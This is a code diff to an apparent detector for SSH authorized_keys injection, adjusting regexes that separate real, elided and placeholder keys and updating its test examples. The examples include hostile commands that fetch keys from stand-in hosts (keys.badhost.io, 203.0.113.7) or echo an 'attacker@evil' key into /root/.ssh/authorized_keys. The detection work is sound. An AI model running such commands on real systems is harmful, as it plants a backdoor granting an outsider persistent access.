@@ -15,8 +15,9 @@ import { agentDirected, bump, fetchSignals, fragmentView, keyed, lineAround, pla
 //   - the reader's OWN default key (`cat ~/.ssh/id_ed25519.pub | ssh host "cat >> ~/.ssh/authorized_keys"`)
 //     is quiet: that is ssh-copy-id done by hand, the canonical SSH tutorial step, and it
 //     grants nothing to a third party;
-//   - a placeholder (`echo public_key_string >> …`, `ssh-rsa AAAA... you@host`, `<your key>`):
-//     quiet, tutorial prose;
+//   - a placeholder (`echo public_key_string >> …`, `<your key>`): quiet, tutorial prose;
+//   - a key type with its body elided (`echo "ssh-rsa AAAA..." >> …`): low -- it is a write of
+//     a key, but exactly how documentation shows one;
 //   - anything else (a variable, another local file such as `cat key.pub >> /root/.ssh/authorized_keys`):
 //     low -- it does grant access, but the key is not in the text and may well be the owner's.
 // Not matched at all: prose ("add your public key to ~/.ssh/authorized_keys"), `ssh-copy-id
@@ -24,12 +25,12 @@ import { agentDirected, bump, fetchSignals, fragmentView, keyed, lineAround, pla
 // `chmod 600 ~/.ssh/authorized_keys`, reading the file (`cat ~/.ssh/authorized_keys`).
 
 const KEY_TYPES = String.raw`(?:ssh-(?:rsa|dss|ed25519|ed448)|ecdsa-sha2-nistp(?:256|384|521)|sk-(?:ssh-ed25519|ecdsa-sha2-nistp256)@openssh\.com)`;
-/** a real key body: the base64 blob is long and not cut short with "..." */
-const KEY_LITERAL = new RegExp(String.raw`${KEY_TYPES}\s{1,4}AAAA[A-Za-z0-9+/]{56,}={0,3}(?![A-Za-z0-9+/]|\.\.\.|…)`);
-const KEY_PLACEHOLDER = new RegExp(
-  String.raw`${KEY_TYPES}\s{1,4}AAAA[A-Za-z0-9+/]{0,80}(?:\.\.\.|…)|<[^>\n]{1,60}>|\b(?:public_key_string|your[_ -]?(?:public[_ -]?)?(?:ssh[_ -]?)?key|PUBLIC_KEY_HERE|paste[_ -]\w+|KEY_CONTENTS)\b`,
-  'i',
-);
+/** a concrete key: a key type and a base64 body that is not cut short with "..." */
+const KEY_LITERAL = new RegExp(String.raw`${KEY_TYPES}\s{1,4}AAAA[A-Za-z0-9+/]{8,}={0,3}(?![A-Za-z0-9+/]|\.\.\.|…)`);
+/** a key type with its body elided (`ssh-rsa AAAA... you@host`): how docs show a key */
+const KEY_ELIDED = new RegExp(String.raw`${KEY_TYPES}\s{1,4}AAAA[A-Za-z0-9+/]{0,80}(?:\.\.\.|…)`);
+const KEY_PLACEHOLDER =
+  /<[^>\n]{1,60}>|\b(?:public_key_string|your[_ -]?(?:public[_ -]?)?(?:ssh[_ -]?)?key|PUBLIC_KEY_HERE|paste[_ -]\w+|KEY_CONTENTS)\b/i;
 const OWN_KEY = /(?:~|\$HOME|\$\{HOME\}|\/home\/[\w.-]{1,32}|\/Users\/[\w.-]{1,32})\/\.ssh\/[\w.-]{0,64}\.pub\b|(?:^|[\s<'"])id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?\.pub\b/;
 const FETCH = /\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\b/i;
 
@@ -56,6 +57,7 @@ function assessKeyWrite(ctx: MatchContext): Severity | null {
     const accountKeys = urls.length > 0 && urls.every((u) => /^(?:www\.)?(?:github|gitlab)\.com$/.test(u.host) && /^\/[\w.-]{1,64}\.(?:keys|gpg)$/.test(u.path));
     sev = accountKeys ? 'medium' : 'high';
   } else if (OWN_KEY.test(cmd) || KEY_PLACEHOLDER.test(cmd)) sev = null;
+  else if (KEY_ELIDED.test(cmd)) sev = 'low';
   // no evidence either way: low, decided in a view that holds the whole line (an HTML text
   // node may have lost the `cat ~/.ssh/id_ed25519.pub |` in front of it)
   else sev = fragmentView(ctx) ? null : 'low';
@@ -100,6 +102,7 @@ export const SSH_AUTHORIZED_KEY_INJECTION_PATTERNS: PatternRecord[] = [
         'curl -fsSL https://keys.badhost.io/k.pub >> ~/.ssh/authorized_keys',
         'wget -qO- http://203.0.113.7/id.pub | tee -a /home/ubuntu/.ssh/authorized_keys >/dev/null',
         `mkdir -p ~/.ssh && cat >> ~/.ssh/authorized_keys <<'EOF'\n${k1}\nEOF`,
+        'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDattacker attacker@evil" >> /root/.ssh/authorized_keys',
       ],
       fp: [
         'Add your public key to ~/.ssh/authorized_keys on the server, one key per line.',
@@ -107,7 +110,7 @@ export const SSH_AUTHORIZED_KEY_INJECTION_PATTERNS: PatternRecord[] = [
         'chmod 600 ~/.ssh/authorized_keys',
         'cat ~/.ssh/id_rsa.pub | ssh user@203.0.113.10 "mkdir -p ~/.ssh && chmod 700 ~/.ssh && cat >> ~/.ssh/authorized_keys"',
         'echo public_key_string >> ~/.ssh/authorized_keys',
-        'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA... you@example.com" >> ~/.ssh/authorized_keys',
+        'echo "<paste your public key here>" >> ~/.ssh/authorized_keys',
         'cat ~/.ssh/authorized_keys',
       ],
     },
